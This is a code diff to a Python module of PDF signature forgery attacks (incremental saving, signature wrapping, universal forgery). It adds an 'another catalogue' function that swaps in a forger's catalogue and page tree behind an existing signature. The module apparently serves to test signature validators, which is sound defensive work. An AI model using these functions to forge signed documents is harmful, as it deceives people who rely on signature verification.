@@ -39,15 +39,17 @@ def root_and_size(pdf: bytes) -> bytes:
     return b"/Root %s/Size %s" % (root, size)
 
 
-def update(pdf: bytes, objects: dict[int, bytes], trailer: bytes = b"", *, listed: dict[int, int] | None = None) -> bytes:
-    """One more revision with a table, written by hand; `listed` gives objects a place of the forger's choice."""
+def update(
+    pdf: bytes, objects: dict[int, bytes], trailer: bytes = b"", *, listed: dict[int, int] | None = None, told: bytes | None = None
+) -> bytes:
+    """One more revision with a table, written by hand; `listed` gives objects a place of the forger's choice, `told` another root."""
     places = dict(listed or {})
     for number, body in objects.items():
         places[number] = len(pdf) + 1
         pdf += body
     rows = b"".join(b"%d 1\n%010d 00000 n \n" % row for row in sorted(places.items())) or b"0 0\n"
     previous, start = last_start(pdf), len(pdf)
-    head = b"<<%s/Prev %d%s>>" % (root_and_size(pdf), previous, trailer)
+    head = b"<<%s/Prev %d%s>>" % (root_and_size(pdf) if told is None else told, previous, trailer)
     return pdf + b"xref\n%strailer\n%s\nstartxref\n%d\n%%%%EOF\n" % (rows, head, start)
 
 
@@ -59,6 +61,7 @@ def last_signature(pdf: bytes) -> tuple[int, int, int]:
 
 
 # Incremental saving
+
 
 def saved_without_table(pdf: bytes) -> bytes:
     return pdf + object_of(content_number(pdf))
@@ -117,6 +120,18 @@ def hybrid_table(pdf: bytes) -> bytes:
     return update(pdf + body + stream, {}, b"/XRefStm %d" % stream_place)
 
 
+def another_catalogue(pdf: bytes) -> bytes:
+    """The trailer points at a catalogue of the forger's: the old one, but for the page tree."""
+    root = re.findall(rb"/Root (\d+) 0 R", pdf)[-1]
+    found = list(re.finditer(rb"\n%s 0 obj\s*(.*?)endobj" % root, pdf, re.DOTALL))[-1]
+    size = int(root_and_size(pdf).rpartition(b" ")[2])
+    page = b"\n%d 0 obj\n<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Contents %d 0 R>>\nendobj\n" % (size + 2, size + 1, size + 3)
+    tree = b"\n%d 0 obj\n<</Type/Pages/Count 1/Kids[%d 0 R]>>\nendobj\n" % (size + 1, size + 2)
+    body = re.sub(rb"/Pages \d+ 0 R", b"/Pages %d 0 R" % (size + 1), found[1])
+    objects = {size: b"\n%d 0 obj\n%sendobj\n" % (size, body), size + 1: tree, size + 2: page, size + 3: object_of(size + 3)}
+    return update(pdf, objects, b"/Root %d 0 R/Size %d" % (size, size + 4), told=b"")
+
+
 def stream_table(pdf: bytes, packed: dict[int, bytes], shown: list[int]) -> bytes:
     """An update whose objects lie in an object stream; only those in `shown` are listed."""
     size = int(root_and_size(pdf).rpartition(b" ")[2])
@@ -156,6 +171,7 @@ def packed_page(pdf: bytes) -> bytes:
 
 # Junk that an honest later signature will cover
 
+
 def archive() -> bytes:
     out = BytesIO()
     with zipfile.ZipFile(out, "w") as packed:
@@ -183,6 +199,7 @@ def preceded_by(head: bytes, pdf: bytes) -> bytes:
 
 # Signature wrapping
 
+
 def wrapped(pdf: bytes, *, padding: bytes = b"") -> bytes:
     """The signed tail moves back, and a false revision stands in the room it leaves, read through the offset that the tail names."""
     begin, end, rest = last_signature(pdf)
@@ -205,6 +222,7 @@ def wrapped(pdf: bytes, *, padding: bytes = b"") -> bytes:
 
 
 # Universal forgery: parts of the signature that are missing or empty
+
 
 def signature_part(pattern: bytes, instead: bytes, pdf: bytes) -> bytes:
     """The last place of a pattern, written over in the same length."""
@@ -265,6 +283,7 @@ IN_BYTES: dict[str, Attack] = {
     "an unlisted object": unlisted_object,
     "reaching into the signed bytes": reaching_into_the_signed_bytes,
     "hybrid table": hybrid_table,
+    "another catalogue": another_catalogue,
     "shadowed in an object stream": shadowed_in_a_stream,
     "page in an object stream": packed_page,
     "followed by itself": followed_by_itself,
